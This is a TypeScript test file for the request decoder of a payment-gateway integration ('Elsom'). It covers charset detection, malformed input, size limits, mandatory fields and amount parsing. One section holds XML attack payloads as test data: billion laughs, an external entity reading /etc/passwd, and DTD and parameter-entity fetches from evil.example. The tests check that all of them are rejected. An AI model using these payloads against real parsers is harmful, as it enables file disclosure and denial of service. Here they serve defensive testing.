/** Gateway side: charsets, hostile XML, limits, mandatory fields and amounts of incoming Elsom requests. */
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import {
  decodeElsomRequest,
  ELSOM_DEFAULT_MAX_BYTES,
  encodeElsomRequest,
  resolveElsomCharset,
  type ElsomAuthorizeRequest,
  type ElsomRequest,
} from '../../../src/gateways/elsom-biller/codec/index.ts';

const DATETIME = { year: 2015, month: 8, day: 4, hour: 0, minute: 1, second: 13, millisecond: 0 };

const AUTHORIZE: ElsomAuthorizeRequest = {
  requestType: 1,
  protocolVersion: '4.00',
  terminalId: '1839',
  login: 'elsom',
  passwordMd5: '5f4dcc3b5aa765d61d8327deb882cf99',
  extras: [],
  transactionNumber: '021508040001364907',
  from: { amountMinor: 1000n, currencyCode: 417 },
  to: { serviceId: '5132', accountNumber: '996701232200', amountMinor: 1000n, currencyCode: 417 },
  receipt: { datetime: DATETIME, receiptNumber: '021508040001364907' },
};

/** A minimal hand-written body; `head` replaces the XML declaration. */
function body(inner: string, head = '<?xml version="1.0" encoding="windows-1251"?>'): string {
  return `${head}\n<request>\n${inner}\n</request>\n`;
}

const CREDENTIALS = '<terminal-id>1839</terminal-id><extra name="login">elsom</extra><extra name="password-md5">x</extra>';

function authorizeBody(overrides: { account?: string; amount?: string; head?: string } = {}): string {
  return body(
    `<request-type>1</request-type>${CREDENTIALS}<transaction-number>7</transaction-number>` +
      `<from><amount>${overrides.amount ?? '10'}</amount></from>` +
      `<to><service-id>5132</service-id><account-number>${overrides.account ?? '1'}</account-number>` +
      `<amount currency-code="417">${overrides.amount ?? '10'}</amount></to>` +
      '<receipt><datetime>20150804000113</datetime><receipt-number>7</receipt-number></receipt>',
    overrides.head,
  );
}

const win1251 = (text: string) => iconv.encode(text, 'windows-1251');
const utf8 = (text: string) => Buffer.from(text, 'utf8');

function accountOf(result: ReturnType<typeof decodeElsomRequest>): string | undefined {
  if (!result.ok || (result.request.requestType !== 1 && result.request.requestType !== 2)) return undefined;
  return result.request.to.accountNumber;
}

describe('charset: BOM, then XML declaration, then Content-Type charset, then windows-1251', () => {
  const account = 'Лицевой №5 ёЁ';
  const noDeclaration = '<?xml version="1.0"?>';

  it('windows-1251 declared in the XML declaration', () => {
    const result = decodeElsomRequest(win1251(authorizeBody({ account })));
    expect(accountOf(result)).toBe(account);
  });

  it('UTF-8 declared in the XML declaration', () => {
    const text = authorizeBody({ account, head: '<?xml version="1.0" encoding="UTF-8"?>' });
    const result = decodeElsomRequest(utf8(text));
    expect(result).toMatchObject({ ok: true, charset: 'utf-8' });
    expect(accountOf(result)).toBe(account);
  });

  it('UTF-8 declared only in the Content-Type header', () => {
    const result = decodeElsomRequest(utf8(authorizeBody({ account, head: noDeclaration })), 'text/xml; charset=utf-8');
    expect(accountOf(result)).toBe(account);
  });

  it('windows-1251 declared only in the Content-Type header (alias cp1251, quoted)', () => {
    const result = decodeElsomRequest(win1251(authorizeBody({ account, head: noDeclaration })), 'text/xml;charset="CP1251"');
    expect(accountOf(result)).toBe(account);
  });

  it('neither says: windows-1251 (the spec since version 1.5)', () => {
    const bytes = win1251(authorizeBody({ account, head: '' }));
    expect(resolveElsomCharset(bytes, 'text/xml')).toEqual({ charset: 'windows-1251', source: 'default' });
    expect(accountOf(decodeElsomRequest(bytes, 'text/xml'))).toBe(account);
  });

  it('both say the same', () => {
    const text = authorizeBody({ account, head: '<?xml version="1.0" encoding="utf-8"?>' });
    expect(accountOf(decodeElsomRequest(utf8(text), 'text/xml; charset=UTF-8'))).toBe(account);
  });

  it('they disagree: the XML declaration wins (header says utf-8, body and declaration are windows-1251)', () => {
    const bytes = win1251(authorizeBody({ account }));
    expect(resolveElsomCharset(bytes, 'text/xml; charset=utf-8')).toEqual({ charset: 'windows-1251', source: 'declaration' });
    expect(accountOf(decodeElsomRequest(bytes, 'text/xml; charset=utf-8'))).toBe(account);
  });

  it('they disagree the other way: declaration utf-8 wins over header windows-1251', () => {
    const text = authorizeBody({ account, head: '<?xml version="1.0" encoding="utf-8"?>' });
    expect(accountOf(decodeElsomRequest(utf8(text), 'text/xml; charset=windows-1251'))).toBe(account);
  });

  it('a UTF-8 byte order mark wins over everything', () => {
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), win1251(authorizeBody({ account: 'abc' }))]);
    expect(resolveElsomCharset(bytes, 'text/xml; charset=windows-1251')).toEqual({ charset: 'utf-8', source: 'bom' });
    expect(decodeElsomRequest(bytes)).toMatchObject({ ok: true, charset: 'utf-8' });
  });

  it('bytes that are not UTF-8 under a UTF-8 label are refused, not guessed', () => {
    const bytes = win1251(authorizeBody({ account, head: '<?xml version="1.0" encoding="utf-8"?>' }));
    expect(decodeElsomRequest(bytes)).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'undecodable_bytes' } });
  });

  it('the byte 0x98, undefined in windows-1251, is refused', () => {
    const bytes = Buffer.concat([win1251(authorizeBody()).subarray(0, 60), Buffer.from([0x98])]);
    expect(decodeElsomRequest(bytes)).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'undecodable_bytes' } });
  });

  it('other charsets are refused with 202', () => {
    const koi = win1251(authorizeBody({ head: '<?xml version="1.0" encoding="KOI8-R"?>' }));
    expect(resolveElsomCharset(koi)).toBeUndefined();
    expect(decodeElsomRequest(koi)).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'unsupported_charset' } });
    const header = win1251(authorizeBody({ head: '' }));
    expect(decodeElsomRequest(header, 'text/xml; charset=iso-8859-5')).toMatchObject({ failure: { kind: 'unsupported_charset' } });
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(authorizeBody(), 'utf16le')]);
    expect(decodeElsomRequest(utf16)).toMatchObject({ failure: { kind: 'unsupported_charset' } });
  });

  it('the simulator encodes in both charsets and the gateway reads both back identically', () => {
    const request: ElsomRequest = { ...AUTHORIZE, to: { ...AUTHORIZE.to, accountNumber: account }, login: 'Элсом' };
    for (const charset of ['windows-1251', 'utf-8'] as const) {
      const bytes = encodeElsomRequest(request, { charset });
      expect(bytes.subarray(0, 60).toString('latin1')).toContain(`encoding="${charset}"`);
      expect(decodeElsomRequest(bytes)).toStrictEqual({ ok: true, request, charset });
    }
    expect(encodeElsomRequest(request).includes(Buffer.from([0xdd, 0xeb, 0xf1, 0xee, 0xec]))).toBe(true); // Элсом
  });
});

describe('hostile XML is refused with 202 and never expanded', () => {
  const cases: Record<string, string> = {
    'DOCTYPE without entities': '<?xml version="1.0"?><!DOCTYPE request><request></request>',
    'internal entity': '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "1839">]><request><terminal-id>&a;</terminal-id></request>',
    'billion laughs':
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><request><login>&lol3;</login></request>',
    'external entity': '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><request>&xxe;</request>',
    'external DTD': '<?xml version="1.0"?><!DOCTYPE request SYSTEM "http://evil.example/x.dtd"><request/>',
    'parameter entity': '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><request/>',
    'lower-case doctype': '<?xml version="1.0"?><!doctype request><request/>',
  };

  for (const [name, xml] of Object.entries(cases)) {
    it(name, () => {
      const result = decodeElsomRequest(utf8(xml));
      expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'doctype_forbidden' } });
      expect(JSON.stringify(result)).not.toContain('lollol');
      expect(JSON.stringify(result)).not.toContain('root:');
    });
  }

  it('an undeclared entity reference without a DOCTYPE is refused, not passed through', () => {
    const result = decodeElsomRequest(win1251(authorizeBody({ account: '&lol;' })));
    expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'entity_forbidden', detail: '&lol;' } });
  });

  it('predefined entities and character references are resolved exactly once', () => {
    const result = decodeElsomRequest(win1251(authorizeBody({ account: 'A&amp;B &lt;1&gt; &#1257;&#x4AF; &amp;lt;' })));
    expect(accountOf(result)).toBe('A&B <1> өү &lt;');
  });

  it('a bare ampersand is malformed', () => {
    const result = decodeElsomRequest(win1251(authorizeBody({ account: 'A & B' })));
    expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'malformed_xml' } });
  });

  it('a character reference to a non-XML character is malformed', () => {
    const result = decodeElsomRequest(win1251(authorizeBody({ account: '&#0;' })));
    expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'malformed_xml' } });
  });
});

describe('malformed, truncated, oversized and unexpected bodies', () => {
  const full = authorizeBody();

  it.each([
    ['empty body', ''],
    ['not XML', 'request-type=1&terminal-id=1839'],
    ['truncated in the middle', full.slice(0, Math.floor(full.length / 2))],
    ['truncated before the end tag', full.slice(0, full.lastIndexOf('</request>'))],
    ['mismatched tags', body('<request-type>1</request-typ>')],
    ['two root elements', `${full}<request/>`],
    ['text after the root', `${full}garbage`],
    ['mixed content', body(`garbage<request-type>1</request-type>${CREDENTIALS}`)],
    ['too deeply nested', body('<a>'.repeat(40) + '</a>'.repeat(40))],
  ])('%s → 202 malformed_xml', (_name, xml) => {
    expect(decodeElsomRequest(win1251(xml))).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'malformed_xml' } });
  });

  it('leading whitespace before the XML declaration is tolerated', () => {
    expect(decodeElsomRequest(win1251(`\n  ${full}`))).toMatchObject({ ok: true });
  });

  it(`a body over ${ELSOM_DEFAULT_MAX_BYTES} bytes is refused before parsing; exactly the limit is read`, () => {
    const padding = (size: number) => `<!--${'x'.repeat(size - full.length - 7)}-->`;
    const exact = win1251(`${full}${padding(ELSOM_DEFAULT_MAX_BYTES)}`);
    expect(exact.length).toBe(ELSOM_DEFAULT_MAX_BYTES);
    expect(decodeElsomRequest(exact)).toMatchObject({ ok: true });
    const over = Buffer.concat([exact, Buffer.from(' ')]);
    expect(decodeElsomRequest(over)).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'body_too_large' } });
  });

  it('the limit is an option', () => {
    const result = decodeElsomRequest(win1251(full), undefined, { maxBytes: 100 });
    expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'body_too_large' } });
  });

  it('a root other than <request> is refused', () => {
    const xml = '<?xml version="1.0"?><response><request-type>1</request-type></response>';
    expect(decodeElsomRequest(utf8(xml))).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'unexpected_root' } });
  });

  it.each(['0', '5', '10', '99', 'abc', '1.0', '-1', '001'])('request-type %s → 202 unknown_request_type', (type) => {
    const result = decodeElsomRequest(win1251(body(`<request-type>${type}</request-type>${CREDENTIALS}`)));
    expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'unknown_request_type' } });
    expect(result.ok === false && result.failure.echo).toEqual({ terminalId: '1839' });
  });

  it('a refusal echoes what could be read, for the refusal response', () => {
    const xml = body(`<protocol-version>4.00</protocol-version><request-type>2</request-type>${CREDENTIALS}<transaction-number>42</transaction-number>`);
    const result = decodeElsomRequest(win1251(xml));
    expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'missing_field', detail: 'from' } });
    expect(result.ok === false && result.failure.echo).toEqual({
      protocolVersion: '4.00',
      requestType: 2,
      terminalId: '1839',
      transactionNumber: '42',
    });
  });

  it('a repeated element or extra is refused (two password-md5 would be ambiguous)', () => {
    const twice = authorizeBody().replace('<extra name="login">', '<extra name="password-md5">y</extra><extra name="login">');
    expect(decodeElsomRequest(win1251(twice))).toMatchObject({ failure: { resultCode: 202, kind: 'duplicate_field', detail: 'extra password-md5' } });
    const twoNumbers = authorizeBody().replace('<transaction-number>7', '<transaction-number>8</transaction-number><transaction-number>7');
    expect(decodeElsomRequest(win1251(twoNumbers))).toMatchObject({ failure: { resultCode: 202, kind: 'duplicate_field' } });
  });

  it('unknown extras are kept in order, unknown elements ignored', () => {
    const xml = authorizeBody().replace(
      '<transaction-number>',
      '<extra name="b">2</extra><extra name="a">1</extra><future-element>x</future-element><transaction-number>',
    );
    const result = decodeElsomRequest(win1251(xml));
    expect(result.ok && result.request.extras).toEqual([
      { name: 'b', value: '2' },
      { name: 'a', value: '1' },
    ]);
  });
});

describe('mandatory fields per request type (M in the spec tables)', () => {
  /** Removes one element (or extra) from the simulator's encoding of a complete request. */
  function without(request: ElsomRequest, pattern: RegExp): Buffer {
    const xml = iconv.decode(encodeElsomRequest(request), 'windows-1251');
    const stripped = xml.replace(pattern, '');
    expect(stripped).not.toBe(xml);
    return win1251(stripped);
  }

  const base = { terminalId: '1839', login: 'l', passwordMd5: 'p', extras: [] };
  const requests: Record<string, ElsomRequest> = {
    AUTHORIZE,
    PAYMENT: { ...AUTHORIZE, requestType: 2 },
    CANCEL_PAYMENT: { ...base, requestType: 3, serviceId: '5132', transactionNumber: '1' },
    PAYMENT_LIST: { ...base, requestType: 4, serviceId: '5132', datetimeFrom: DATETIME, datetimeTo: DATETIME },
  };

  const element = (name: string) => new RegExp(`<${name}>[^<]*</${name}>`);
  const extra = (name: string) => new RegExp(`<extra name="${name}">[^<]*</extra>`);
  const common: [string, RegExp][] = [
    ['request-type', element('request-type')],
    ['terminal-id', element('terminal-id')],
    ['extra login', extra('login')],
    ['extra password-md5', extra('password-md5')],
  ];
  const transfer: [string, RegExp][] = [
    ['transaction-number', /<transaction-number>[^<]*<\/transaction-number>/],
    ['from', /<from>[\s\S]*?<\/from>/],
    ['from/amount', /(?<=<from>\s*)<amount[^>]*>[^<]*<\/amount>/],
    ['to', /<to>[\s\S]*?<\/to>/],
    ['to/service-id', element('service-id')],
    ['to/account-number', element('account-number')],
    ['to/amount', /(?<=<to>[\s\S]*)<amount[^>]*>[^<]*<\/amount>/],
    ['to/amount@currency-code', /(?<=<to>[\s\S]*<amount) currency-code="417"/],
    ['receipt', /<receipt>[\s\S]*?<\/receipt>/],
    ['receipt/datetime', element('datetime')],
    ['receipt/receipt-number', element('receipt-number')],
  ];
  const mandatory: Record<string, [string, RegExp][]> = {
    AUTHORIZE: [...common, ...transfer],
    PAYMENT: [...common, ...transfer],
    CANCEL_PAYMENT: [...common, ['service-id', element('service-id')], ['transaction-number', element('transaction-number')]],
    PAYMENT_LIST: [...common, ['service-id', element('service-id')], ['datetime-from', element('datetime-from')], ['datetime-to', element('datetime-to')]],
  };

  for (const [type, fields] of Object.entries(mandatory)) {
    for (const [field, pattern] of fields) {
      it(`${type} without ${field} → 202 missing_field`, () => {
        const request = requests[type];
        if (request === undefined) throw new Error(type);
        const result = decodeElsomRequest(without(request, pattern));
        expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'missing_field', detail: field } });
      });
    }
  }

  it('an empty mandatory element counts as missing', () => {
    const xml = authorizeBody().replace('<account-number>1</account-number>', '<account-number> </account-number>');
    expect(decodeElsomRequest(win1251(xml))).toMatchObject({ failure: { kind: 'missing_field', detail: 'to/account-number' } });
  });

  it('optional fields may be absent: protocol-version, client-software, update_condition, from currency-code', () => {
    const result = decodeElsomRequest(win1251(authorizeBody()));
    expect(result).toMatchObject({ ok: true });
    expect(result.ok && result.request).not.toHaveProperty('protocolVersion');
    expect(result.ok && result.request).not.toHaveProperty('clientSoftware');
    expect(result.ok && result.request.requestType === 1 && result.request.from).toEqual({ amountMinor: 1000n });
  });

  it.each([
    ['terminal-id not a number', (x: string) => x.replace('<terminal-id>1839', '<terminal-id>18a9')],
    ['terminal-id over Number(10)', (x: string) => x.replace('<terminal-id>1839', '<terminal-id>12345678901')],
    ['transaction-number over Varchar(30)', (x: string) => x.replace('<transaction-number>7', `<transaction-number>${'9'.repeat(31)}`)],
    ['currency-code not a number', (x: string) => x.replace('currency-code="417"', 'currency-code="KGS"')],
    ['receipt datetime not ГГГГММДДччммсс', (x: string) => x.replace('20150804000113', '2015-08-04 00:01')],
    ['receipt datetime on 30 February', (x: string) => x.replace('20150804000113', '20150230000113')],
    ['receipt datetime at 24:00', (x: string) => x.replace('20150804000113', '20150804240000')],
    ['an element where text is expected', (x: string) => x.replace('<account-number>1<', '<account-number><b>1</b><')],
  ])('%s → 202 invalid_field', (_name, edit) => {
    expect(decodeElsomRequest(win1251(edit(authorizeBody())))).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'invalid_field' } });
  });

  it('keeps a 30-digit transaction-number exactly', () => {
    const number = '123456789012345678901234567890';
    const result = decodeElsomRequest(win1251(authorizeBody().replace('<transaction-number>7', `<transaction-number>${number}`)));
    expect(result.ok && result.request.requestType === 1 && result.request.transactionNumber).toBe(number);
  });
});

describe('amounts: exact tyiyn, positive, at most two decimals; anything else is 275', () => {
  it.each([
    ['10', 1000n],
    ['10.5', 1050n],
    ['10.50', 1050n],
    ['0.01', 1n],
    [' 10 ', 1000n],
    ['99999999999.99', 9999999999999n],
  ])('%s → %s tyiyn on both from and to', (amount, minor) => {
    const result = decodeElsomRequest(win1251(authorizeBody({ amount })));
    expect(result.ok && result.request.requestType === 1 && [result.request.from.amountMinor, result.request.to.amountMinor]).toEqual([
      minor,
      minor,
    ]);
  });

  it.each(['0', '0.00', '-1', 'abc', '10.001', '10.000', '1e3', '+10', '10.', '.5', '1,5', '10 000', '0x10', 'NaN', 'Infinity'])(
    '%s → 275 invalid_amount',
    (amount) => {
      const result = decodeElsomRequest(win1251(authorizeBody({ amount })));
      expect(result).toMatchObject({ ok: false, failure: { resultCode: 275, kind: 'invalid_amount' } });
    },
  );

  it('an empty amount is a missing field (202), not an incorrect one', () => {
    const result = decodeElsomRequest(win1251(authorizeBody({ amount: '' })));
    expect(result).toMatchObject({ ok: false, failure: { resultCode: 202, kind: 'missing_field' } });
  });
});
